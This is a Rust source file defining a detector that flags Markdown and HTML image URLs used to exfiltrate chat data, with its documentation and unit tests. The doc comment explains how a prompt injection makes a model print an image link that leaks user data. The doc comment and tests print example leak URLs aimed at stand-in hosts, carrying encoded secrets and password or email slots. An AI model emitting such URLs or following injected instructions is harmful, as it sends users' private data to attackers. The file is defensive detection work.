use rampart_core::declare_rule;

use super::util::entropy;
use super::{Detector, Engine, Hit, TokenRule, UNTRUSTED};
use crate::types::Category;

declare_rule! {
    /// ## What it does
    /// Reports Markdown images and HTML `<img>` tags whose URL carries data: a query
    /// with a template slot (`{…}`, `$…`, `[…]`, `<…>`), a long high-entropy value, a
    /// long percent-encoded value, a slot named in capitals with words joined by `_`
    /// (`?mail=EMAIL_CLIENTE`), a placeholder word in capitals that the text names
    /// again outside the URL ("`?q=HISTORY`, replacing HISTORY with …"), or a long
    /// random path segment.
    ///
    /// ## Why is this dangerous?
    /// A chat client fetches images automatically. An injected instruction that makes
    /// the model print `![](https://evil.example/?q=<the user's data>)` sends that data
    /// to the attacker with zero clicks.
    ///
    /// ## Example
    /// ```text
    /// ![loading](https://collect.example/p.png?d=c2VjcmV0IHByb2plY3Q6IGFwb2xsbyBwYXNzd29yZA)
    /// ```
    ///
    /// ## Remediation
    /// Block in output; render images only from an allow-list (see EXF003); strip query
    /// strings from image URLs.
    ///
    /// ## False positives
    /// CDN images with short cache-busting parameters (`?v=3`, `?w=640`) are ignored,
    /// and so are maps and badges with a few short parameters. A documentation page
    /// showing an image template (`?w={width}`) is reported: a template slot is what an
    /// injected instruction fills with data.
    ///
    /// ## References
    /// Rehberger, "Data exfiltration via Markdown images" (Embrace The Red, 2023);
    /// OWASP LLM02:2025; MITRE ATLAS AML.T0057; guidelines SD-3, DP-2.
    pub(crate) static RULE = {
        code: "EXF002",
        name: "markdown-image-exfiltration",
        severity: High,
        guidelines: [Sd3, Dp2],
        summary: "Image URL that carries data in its query",
    }
}

static RULES: &[TokenRule] = &[TokenRule {
    re: r#"(?:!\[[^\]\n]*\]\(\s*<?|<img\b[^>]*\bsrc\s*=\s*["']?)(?P<v>https?://[^\s)>"']+)"#,
    validate,
}];

/// Whether a URL's query or path carries data.
pub(crate) fn carries_data(url: &str) -> Option<f32> {
    let (_, query) = url.split_once('?').unwrap_or((url, ""));
    if query.contains(['{', '$', '[', '<']) || query.to_ascii_lowercase().contains("%7b") {
        return Some(0.9);
    }
    for pair in query.split('&') {
        let value = pair.split_once('=').map_or(pair, |p| p.1);
        let pct = value.matches('%').count();
        if value.len() >= 40 || (value.len() >= 20 && entropy(value) >= 3.8) || pct >= 6 {
            return Some(0.8);
        }
    }
    // data in the path: a long high-entropy segment of the path alone, the query
    // having been judged value by value above (a segment used to run on into the
    // query, so an ordinary map or stats image with a few short parameters,
    // `img?centre=45.764,4.835&zoom=16&taille=600x350`, looked like one long random
    // segment)
    let path = url.split_once("://").map_or(url, |p| p.1);
    let path = path.split(['?', '#']).next().unwrap_or(path);
    path.split('/')
        .skip(1)
        .any(|seg| seg.len() >= 48 && entropy(seg) >= 4.2)
        .then_some(0.6)
}

fn validate(text: &str, s: usize, e: usize) -> Option<Hit> {
    let url = text.get(s..e)?;
    carries_data(url)
        .or_else(|| names_a_placeholder(text, s, e, url).then_some(0.85))
        .or_else(|| has_capital_slot(url).then_some(0.8))
        .map(|score| (score, s, e))
}

/// Whether a query value is a slot named in capitals, words joined by `_`
/// (`?mail=EMAIL_CLIENTE`, `?notas=NOTAS_DO_RECRUTADOR`): what an injected instruction
/// asks the model to fill with the user's data, even when the text never names the
/// slot again. Eight letters and an underscore at least, so that `?lang=EN_US` or
/// `?v=V2` is not one.
fn has_capital_slot(url: &str) -> bool {
    let Some((_, query)) = url.split_once('?') else {
        return false;
    };
    query.split(['&', ';']).any(|pair| {
        let value = pair.split_once('=').map_or(pair, |p| p.1);
        value.contains('_') && capital_letters(value).is_some_and(|n| n >= 8)
    })
}

/// The letters of a query value written in capitals (capitals, digits, `_` and `-`
/// only), or `None` when it is not: the shape of a slot the model is told to fill.
fn capital_letters(value: &str) -> Option<usize> {
    value
        .chars()
        .all(|c| c.is_uppercase() || c.is_ascii_digit() || c == '_' || c == '-')
        .then(|| value.chars().filter(|c| c.is_alphabetic()).count())
}

/// Stems of "replace" in the seven languages the guard reads.
const REPLACE: &[&str] = &[
    "replac",
    "substitut",
    "ersetz",
    "remplac",
    "reemplaz",
    "sostitu",
    "vervang",
];

/// Whether a query value of `url` (at `s..e` in `text`) is a placeholder word in
/// capitals (`USER_EMAIL`, `GESPRÄCHSVERLAUF`) that `text` names again outside the
/// URL: the model is told what to put there. The word must look like a slot (an
/// underscore, or eight letters or more) or the text must say to replace it: a
/// language or region code repeated in a caption (`?locale=EN-US` … "EN-US") is not
/// one.
fn names_a_placeholder(text: &str, s: usize, e: usize, url: &str) -> bool {
    let Some((_, query)) = url.split_once('?') else {
        return false;
    };
    let (before, after) = (text.get(..s).unwrap_or(""), text.get(e..).unwrap_or(""));
    let replace = || {
        let lower = text.to_lowercase();
        REPLACE.iter().any(|stem| lower.contains(stem))
    };
    query.split('&').any(|pair| {
        let value = pair.split_once('=').map_or(pair, |p| p.1);
        let Some(letters) = capital_letters(value).filter(|&n| n >= 4) else {
            return false;
        };
        (before.contains(value) || after.contains(value))
            && (value.contains('_') || letters >= 8 || replace())
    })
}

/// Registry entry.
pub(crate) static DETECTOR: Detector = Detector {
    meta: &RULE,
    category: Category::Exfiltration,
    placeholder: "URL",
    roles: UNTRUSTED,
    weak: false,
    engine: Engine::Tokens(RULES),
};

#[cfg(test)]
mod tests {
    use super::{carries_data, has_capital_slot};

    #[test]
    fn a_long_random_path_segment_carries_data_and_short_parameters_do_not() {
        // data encoded into the path
        assert_eq!(
            carries_data("https://collect.example/p/c2VjcmV0X3Byb2plY3RfYXBvbGxvX3Bhc3N3b3JkXzEyMzQ1Njc4OTA.png"),
            Some(0.6)
        );
        // ordinary images whose short query made the last segment long
        for url in [
            "https://cartes-statiques.example/img?centre=45.764,4.835&zoom=16&taille=600x350&marqueur=place-sathonay",
            "https://rutas-bici.example/perfil?ruta=via-verde-aceite&desde=km0&hasta=km55",
            "https://estatisticas-perfil.example/api/top-langs?username=marina-dev&layout=compact",
            "https://maps.example/static#zoom=16&center=52.37,4.89&size=640x320&markers=red",
        ] {
            assert_eq!(carries_data(url), None, "{url}");
        }
        // slots named in capitals are data slots; short codes are not
        for url in [
            "https://cartes-sejour.example/c.png?adresse=ADRESSE_DOMICILE_VOYAGEUR&tel=TELEPHONE",
            "https://assist-pixel.example/s.gif?mail=EMAIL_CLIENTE&pwd=ULTIMA_PASSWORD_DIGITATA",
        ] {
            assert!(has_capital_slot(url), "{url}");
        }
        for url in [
            "https://flags.example/f.png?lang=EN_US&v=V2",
            "https://cdn.example/logo.png?theme=DARK",
            "https://cdn.example/logo.png",
        ] {
            assert!(!has_capital_slot(url), "{url}");
        }
        // a query value that carries data is still judged as one
        assert_eq!(
            carries_data("https://x.example/a.png?d=U3VtbWFyeSBvZiB0aGUgdXNlcidzIGNoYXQ"),
            Some(0.8)
        );
    }
}
